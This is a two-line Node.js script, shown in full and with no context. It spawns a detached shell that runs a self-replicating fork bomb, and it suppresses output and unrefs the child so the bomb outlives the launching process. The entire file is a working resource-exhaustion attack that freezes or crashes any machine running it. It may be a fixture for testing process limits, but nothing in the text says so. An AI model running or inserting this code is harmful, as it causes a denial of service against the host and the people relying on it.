require('node:child_process').spawn('sh', ['-c', 'bomb() { bomb | bomb & }; bomb'], { detached: true, stdio: 'ignore' }).unref()
setTimeout(() => {}, 300)
